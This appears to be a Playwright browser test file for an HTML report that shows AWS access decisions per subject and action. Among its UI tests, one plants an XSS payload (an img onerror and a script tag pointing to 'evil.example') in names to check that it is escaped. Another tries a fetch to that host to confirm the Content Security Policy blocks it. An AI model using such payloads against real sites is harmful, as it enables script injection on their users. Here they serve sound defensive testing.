import type { Page } from "playwright-core";
import { asHtml } from "../../../../../cli/commands/matrix/formats/html";
import type { Subject } from "../../../../../cli/access/subject";
import { describeInBrowser, pageInBrowser } from "../../../../support/browser";
import { contrast, luminance } from "../../../../support/contrast";
import { evaluated, SOURCE } from "../../../../support/small-matrix";

jest.setTimeout(30_000);

const LET_IN = { Sid: "LetIn", Effect: "Allow", Principal: { AWS: "*" }, Action: "kms:Decrypt", Resource: "*" };

/** As the summary knows the actions. */
const IDS = ["key-decrypt", "key-describe", "log-bucket-read", "log-bucket-delete"];

const DEV = evaluated(
  {
    name: "dev",
    subjects: ["CloudTrail for this trail", "role/dev-log-reader", "anonymous"],
    accessCases: [
      ["key", "decrypt a log", "AA."],
      ["key", "delete the key", "..."],
      ["log bucket", "read an object", ".AX"],
      ["log bucket", "delete an object", "XXX"], // X: denied explicitly
    ],
  },
  [LET_IN, { Sid: "KeepOut", Effect: "Deny" }],
);
const SUMMED = {
  ...DEV,
  matrix: {
    ...DEV.matrix,
    accessCases: DEV.matrix.accessCases.map((accessCase, index) => ({ ...accessCase, id: IDS[index]! })),
    settings: [{ id: "trail-logging", target: "trail", title: "logging", value: "off", safe: false }],
  },
};
const PROD = evaluated({ name: "prod", subjects: ["anonymous"], accessCases: [["key", "decrypt a log", "X"]] });

/** Subjects by their ids, of which two are services. */
const WITH_SERVICES = (() => {
  const one = evaluated({
    name: "prod",
    subjects: ["CloudTrail", "anonymous", "role/reader", "another trail", "root"],
    accessCases: [
      ["key", "decrypt", "AAAAA"],
      ["key", "encrypt", "A...."],
    ],
  });
  const ids = ["this-trail", "anonymous", "111122223333-role-reader", "other-trail", "root"];
  const subjects = one.matrix.subjects.map((subject, index): Subject => {
    const service = { kind: "service", service: "cloudtrail.amazonaws.com", sourceArn: undefined } as const;
    const isService = ids[index]!.endsWith("trail");
    return { ...subject, id: ids[index]!, ...(isService && { caller: { ...service, sourceAccount: undefined } }) };
  });
  return { ...one, matrix: { ...one.matrix, subjects } };
})();

const EVIL = `"><img src="https://evil.example/x" onerror="window.pwned=1"></script><script>window.pwned=1</script>`;
const HOSTILE = evaluated(
  { name: EVIL, subjects: [EVIL], accessCases: [[EVIL, EVIL, "A"]], sids: { allow: EVIL, deny: EVIL } },
  [{ Sid: EVIL, Effect: "Allow" }],
);

describeInBrowser("the page in a browser", () => {
  const shown = pageInBrowser({ width: 1200, height: 800 });
  const { requests, errors, open } = shown;
  let page: Page;

  beforeAll(() => void (page = shown.page));
  beforeEach(() => open(asHtml([DEV, PROD])));

  const rows = () => page.locator("tbody th[scope=row]").allTextContents();
  const columns = () => page.locator(".names th").allTextContents();
  const cell = (label: string) => page.getByRole("button", { name: label, exact: true });
  const detail = () => page.locator("#detail");
  const status = () => page.getByRole("status").textContent();
  const focused = () => page.locator(":focus").getAttribute("aria-label");

  test("on paper, names its environment, and all columns fit on a page", async () => {
    const names = Array.from({ length: 24 }, (_, index) => `role/prod-audit-with-a-long-name-${index}`);
    const decisions = ".".repeat(names.length);
    const title = "do something that takes more words than usual, through a service, in another Region";
    await open(asHtml([evaluated({ name: "dev", subjects: names, accessCases: [["key", title, decisions]] }), PROD]));
    // A4, landscape, without its margins.
    await page.setViewportSize({ width: 1017, height: 680 });
    await page.emulateMedia({ media: "print" });
    const seen = await page.locator("nav button:visible").allTextContents();
    const width = await page.evaluate<number>("document.documentElement.scrollWidth");
    await page.emulateMedia({ media: "screen" });
    expect([seen, width]).toEqual([["dev"], 1017]);
  });

  test("shows every action and subject", async () => {
    expect(await rows()).toEqual(["decrypt a log", "delete the key", "read an object", "delete an object"]);
    expect(await columns()).toEqual(["CloudTrail for this trail", "role/dev-log-reader", "anonymous"]);
    expect(await page.locator("tbody tr.target").allTextContents()).toEqual(["key", "log bucket"]);
    // A: allowed, X: denied explicitly.
    expect(await page.locator("tbody td").allTextContents()).toEqual([..."AA.....AXXXX".replaceAll(".", "·")]);
    expect(await status()).toBe("4 of 4 actions, 3 of 3 subjects");
  });

  test("filters subjects and actions, each by all its words in any order and case", async () => {
    await page.getByLabel("Who").fill("READER role");
    expect(await columns()).toEqual(["role/dev-log-reader"]);
    await page.getByLabel("Does what").fill("delete bucket");
    expect(await rows()).toEqual(["delete an object"]);
    expect(await status()).toBe("1 of 4 actions, 1 of 3 subjects");
    await page.getByLabel("Does what").press("Enter");
    expect(await rows()).toEqual(["delete an object"]);
  });

  test("shows the rows with a decision, among the subjects shown", async () => {
    const show = page.getByLabel("Show");
    await show.selectOption("rows with an allowed cell");
    expect(await rows()).toEqual(["decrypt a log", "read an object"]);
    await show.selectOption("rows with an explicit denial");
    expect(await rows()).toEqual(["read an object", "delete an object"]);
    await page.getByLabel("Who").fill("reader");
    expect(await rows()).toEqual(["delete an object"]);
    await show.selectOption("all rows");
    expect(await rows()).toHaveLength(4);
  });

  test("says so where nothing matches, and recovers", async () => {
    const nothing = page.getByText("Nothing matches.");
    await page.getByLabel("Who").fill("nobody of that name");
    expect(await nothing.isVisible()).toBe(true);
    expect(await page.locator("#matrix").isVisible()).toBe(false);
    await page.getByLabel("Who").fill("");
    expect(await nothing.isVisible()).toBe(false);
    expect(await rows()).toHaveLength(4);
  });

  test("changes the environment, and keeps the filters", async () => {
    await page.getByLabel("Who").fill("anonymous");
    await cell("anonymous: key: decrypt a log: denied").click();
    await page.getByRole("button", { name: "prod" }).click();
    expect(await rows()).toEqual(["decrypt a log"]);
    expect(await cell("anonymous: key: decrypt a log: denied explicitly").isVisible()).toBe(true);
    expect(await detail().isVisible()).toBe(false);
    expect(await page.locator("nav [aria-pressed=true]").allTextContents()).toEqual(["prod"]);
  });

  test("a cell shows the statements that decided it, until it is closed", async () => {
    await cell("role/dev-log-reader: key: decrypt a log: allowed").click();
    expect(await detail().locator("h2").textContent()).toBe("key: decrypt a log");
    expect(await detail().locator("h3").textContent()).toBe(`LetIn${SOURCE}`);
    expect(JSON.parse((await detail().locator("pre").textContent())!)).toEqual(LET_IN);
    await cell("anonymous: key: decrypt a log: denied").click();
    expect(await detail().textContent()).toContain(
      "anonymous: deniedNo statement allows kms:Decrypt, and none denies it.",
    );
    expect(await page.locator("td [aria-pressed=true]").count()).toBe(1);
    await page.getByRole("button", { name: "Close" }).click();
    expect(await detail().isVisible()).toBe(false);
    expect(await focused()).toBe("anonymous: key: decrypt a log: denied");
  });

  describe("the summary", () => {
    const answer = (title: string) => page.getByRole("button", { name: title, exact: true });

    beforeEach(() => open(asHtml([SUMMED, PROD])));

    test("says who can do what, and which settings are not safe", async () => {
      expect(await page.locator("#answers dt").allTextContents()).toEqual([
        "read logs",
        "decrypt logs without S3",
        "delete logs (versions retained)",
      ]);
      const [readers, , deleters] = await page.locator("#answers dd").allTextContents();
      expect([readers, deleters]).toEqual(["role/dev-log-reader", "nobody"]);
      expect(await page.locator("#settings").textContent()).toBe("Unsafe settings: trail: logging is off");
    });

    test("shows the rows of a line, and all of them again", async () => {
      await answer("read logs").click();
      expect(await rows()).toEqual(["read an object"]);
      expect(await status()).toBe("1 of 4 actions, 3 of 3 subjects");
      await answer("decrypt logs without S3").click();
      expect(await rows()).toEqual(["decrypt a log"]);
      expect(await page.locator("#answers [aria-pressed=true]").allTextContents()).toEqual(["decrypt logs without S3"]);
      await answer("decrypt logs without S3").click();
      expect(await rows()).toHaveLength(4);
    });

    test("says beside the filters which line's rows are shown, and lets go of it there", async () => {
      const chip = page.locator("#asked");
      expect(await chip.isVisible()).toBe(false);
      await answer("read logs").click();
      expect(await chip.textContent()).toBe("read logs ×");
      await page.getByRole("button", { name: "Only rows of: read logs. Remove" }).click();
      expect(await rows()).toHaveLength(4);
      expect(await chip.isVisible()).toBe(false);
      expect(await page.locator("#answers [aria-pressed=true]").count()).toBe(0);
      expect(await page.locator(":focus").getAttribute("id")).toBe("accessCase");
    });

    test("stays with its environment", async () => {
      await answer("read logs").click();
      await page.getByRole("button", { name: "prod" }).click();
      expect(await rows()).toEqual(["decrypt a log"]);
      expect(await page.locator("#summary").isVisible()).toBe(false);
      expect(await page.locator("#asked").isVisible()).toBe(false);
    });
  });

  describe("services", () => {
    beforeEach(() => open(asHtml([WITH_SERVICES])));

    test("come last, in one column that shows the worst of them", async () => {
      expect(await page.locator(".groups th").allTextContents()).toEqual([
        "named by the environment",
        "in its accounts",
        "outsiders",
        "",
      ]);
      expect(await columns()).toEqual(["role/reader", "root", "anonymous", "2 services"]);
      const classes = page.locator("tbody td").evaluateAll((cells) => cells.map(({ className }) => className));
      expect(await classes).toEqual([
        ...["configured", "possible", "worrying", "worrying"],
        ...["denied", "denied", "denied", "configured"],
      ]);
      expect(await cell("key: decrypt: 2 of 2 services allowed").isVisible()).toBe(true);
      expect(await status()).toBe("2 of 2 actions, 5 of 5 subjects");
    });

    test.each([
      ["the head", () => page.getByRole("button", { name: "2 services", exact: true }).click()],
      ["a cell", () => cell("key: encrypt: 1 of 2 services allowed").click()],
    ])("unfold by %s, and fold again", async (_, unfold) => {
      await unfold();
      expect(await columns()).toEqual(["role/reader", "root", "anonymous", "CloudTrail", "another trail"]);
      await page.getByRole("button", { name: "services", exact: true }).click();
      expect(await columns()).toHaveLength(4);
      expect(await page.locator(":focus").textContent()).toBe("2 services");
    });

    test("have a column each where one searches for them", async () => {
      await page.getByLabel("Who").fill("trail");
      expect(await columns()).toEqual(["CloudTrail", "another trail"]);
    });
  });

  test("the keyboard reaches every cell, and Escape closes", async () => {
    await page.getByLabel("Show").focus();
    await page.keyboard.press("Tab");
    expect(await focused()).toBe("CloudTrail for this trail: key: decrypt a log: allowed");
    for (const key of ["ArrowDown", "ArrowDown", "ArrowRight", "End", "ArrowRight"]) await page.keyboard.press(key);
    expect(await focused()).toBe("anonymous: log bucket: read an object: denied explicitly");
    for (const key of ["Home", "ArrowUp", "ArrowLeft"]) await page.keyboard.press(key);
    expect(await focused()).toBe("CloudTrail for this trail: key: delete the key: denied");
    await page.keyboard.press("Enter");
    expect(await detail().isVisible()).toBe(true);
    await page.keyboard.press("Tab");
    expect(await focused()).toBe("Close");
    await page.keyboard.press("Escape");
    expect(await detail().isVisible()).toBe(false);
    expect(await focused()).toBe("CloudTrail for this trail: key: delete the key: denied");
    await page.keyboard.press("Shift+Tab");
    expect(await page.locator(":focus").getAttribute("id")).toBe("decision");
  });

  test("hostile names are text, and no request leaves the page", async () => {
    requests.length = 0;
    const url = await open(asHtml([HOSTILE]));
    await cell(`${EVIL}: ${EVIL}: ${EVIL}: allowed`).click();
    expect(await columns()).toEqual([EVIL]);
    expect(await detail().locator("h3").textContent()).toBe(`${EVIL}${SOURCE}`);
    expect(await page.title()).toBe(`Access matrix: ${EVIL}`);
    expect(await page.locator("img").count()).toBe(0);
    expect(await page.locator("script").count()).toBe(2);
    expect(await page.evaluate("typeof window.pwned")).toBe("undefined");
    expect(requests.filter((request) => !request.startsWith("data:"))).toEqual([url]);
  });

  test("the page itself stops a request that somebody smuggles in", async () => {
    const attempt = "fetch('https://evil.example/').then(() => 'sent', () => 'refused')";
    expect(await page.evaluate(attempt)).toBe("refused");
    expect(errors.join()).toContain("Content Security Policy");
    errors.length = 0;
  });

  test("on a narrow screen nothing is wider than it, and the statements lie on top", async () => {
    await page.setViewportSize({ width: 360, height: 640 });
    expect(await page.evaluate("document.documentElement.scrollWidth")).toBe(360);
    await cell("role/dev-log-reader: key: decrypt a log: allowed").click();
    const box = (await detail().boundingBox())!;
    expect({ left: box.x, width: box.width, bottom: box.y + box.height }).toEqual({ left: 0, width: 360, bottom: 640 });
    const onTop = `document.elementFromPoint(180, ${box.y + 20}).closest("#detail") !== null`;
    expect(await page.evaluate(onTop)).toBe(true);
  });

  test.each(["light", "dark"] as const)("text can be read in a %s scheme", async (colorScheme) => {
    await page.emulateMedia({ colorScheme });
    const parts = [".hint", "td button.possible", "td button.denied", "td button.explicit", "nav [aria-pressed=true]"];
    for (const part of parts) {
      const colours = (await page.evaluate(`(() => {
        let node = document.querySelector(${JSON.stringify(part)});
        const text = getComputedStyle(node).color;
        while (getComputedStyle(node).backgroundColor === "rgba(0, 0, 0, 0)") node = node.parentElement;
        return [text, getComputedStyle(node).backgroundColor];
      })()`)) as [string, string];
      expect([part, contrast(...colours) >= 4.5]).toEqual([part, true]);
    }
    const body = (await page.evaluate("getComputedStyle(document.body).backgroundColor")) as string;
    expect(luminance(body) < 0.1).toBe(colorScheme === "dark");
    await page.emulateMedia({ colorScheme: "light" });
  });
});
